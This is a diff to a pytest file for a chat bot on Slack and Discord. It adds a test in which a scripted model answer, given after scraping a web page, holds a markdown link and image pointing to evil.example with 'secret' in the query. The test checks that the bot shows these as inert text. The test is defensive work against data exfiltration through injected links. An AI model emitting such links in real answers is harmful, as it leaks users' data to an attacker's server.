@@ -1,4 +1,5 @@
-"""A page that people name asks for something else: they see a card that names the page, and nothing happens on a no."""
+"""A page that people name asks for something else: they see a card that names the page, and nothing happens on a no.
+Nor does an answer link to where the page wants the data to go."""
 
 import pytest
 
@@ -38,3 +39,30 @@ async def test_what_a_page_asks_for_needs_a_click_on_a_card_that_names_the_page(
         await stage.settled(1)
         assert set(stage.runs()) == {"completed"}, stage.report()
         assert any("I did not." in text_of(message) for message in stage.ours())
+
+
+LINKING = """
+conversations:
+  - name: linking
+    when: {user: {contains: "Read"}}
+    steps:
+      - calls: [{name: scrape_webpage, arguments: {urls: "SITE/article"}}]
+      - text: "It is [here](https://evil.example/?d=secret), ![seen](https://evil.example/s.png) on SITE/article."
+"""
+
+
+@pytest.mark.parametrize("platform", ["slack", "discord"])
+async def test_an_answer_links_to_what_was_read_and_not_to_where_data_would_go(platform: PlatformName) -> None:
+    async with (
+        fake_web_service(pages.PAGES) as site,
+        staged(platform, LINKING.replace("SITE", site.url), fetch_allow=f"127.0.0.1:{site.port}") as stage,
+    ):
+        stage.program.start()
+        await stage.connected()
+        await stage.say(f"Read {site.url}/article, please.")
+        await stage.settled(1)
+        answer = next(text_of(message) for message in stage.ours() if "It is" in text_of(message))
+        shown = (
+            f"It is here (`https://evil.example/?d=secret`), seen (`https://evil.example/s.png`) on {site.url}/article."
+        )
+        assert shown in answer
